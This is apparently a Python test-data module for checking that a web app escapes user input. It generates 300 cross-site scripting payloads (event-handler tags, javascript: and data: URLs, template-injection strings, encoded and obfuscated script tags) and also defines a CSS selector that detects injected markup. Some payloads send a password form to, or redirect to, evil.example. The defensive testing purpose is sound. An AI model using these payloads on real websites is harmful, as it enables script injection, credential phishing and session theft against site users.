"""Three hundred texts that would like to be code: every way out of an element, an attribute, a comment or a script."""

from __future__ import annotations

from itertools import islice, product

RUN = "alert(1)"
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</title>",
    "</textarea>",
    "</style>",
    "</script>",
    "-->",
    "]]>",
    '\\">',
    "</option></select>",
)
ELEMENTS = (
    f"<script>{RUN}</script>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<details open ontoggle={RUN}><summary>x</summary></details>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<button autofocus onfocus={RUN} data-key=1 name=pick value=n:x>1</button>",
    f"<x tabindex=1 autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<style>@keyframes a{{}}</style><b style=animation-name:a onanimationstart={RUN}>",
    f"<a href=javascript:{RUN} autofocus onfocus={RUN}>x</a>",
    f"<form action=https://evil.example><input name=password autofocus onfocus={RUN}></form>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>",
    f"<div hx-get=/account hx-trigger=load hx-on::load={RUN} hx-on:click={RUN}>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
)
BARE = (
    f"javascript:{RUN}", f"\" onmouseover={RUN} autofocus onfocus={RUN} x=\"", f"' autofocus onfocus={RUN} x='",
    f"`${{{RUN}}}`", f"{{{{ constructor.constructor('{RUN}')() }}}}", "{{ 7 * 7 }}{% debug %}", f"${{{RUN}}}",
    f"&lt;script&gt;{RUN}&lt;/script&gt;", f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\u003cscript\\u003e{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E", f"\u202e<script>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<!--><script>{RUN}</script>-->", f"=HYPERLINK(\"javascript:{RUN}\")",
    f"'-{RUN}-'", f"\";{RUN};//",
    f"</script><script>{RUN}</script>", f"<a href='data:text/html,<script>{RUN}</script>'>",
)  # fmt: skip
PAYLOADS = tuple(islice(dict.fromkeys((*BARE, *(way + each for each, way in product(ELEMENTS, WAYS_OUT)))), 300))
FOREIGN = (
    "script:not([src^='/console/']), iframe:not(.phone[src^='/forms/'][src$='/phone']), object, embed, base, style, "
    "marquee, video, audio, math, "
    "meta[http-equiv=refresh], link[href*=evil], form[action*=evil], a[href^=javascript], a[href^=data], "
    "[onload], [onerror], [onfocus], [ontoggle], [onclick], [onbegin], [onstart], [onanimationstart], [onmouseover], "
    "[hx-trigger=load], main [srcdoc], x"
)
"""What none of our pages has: if one of these is there, a text became part of the page."""
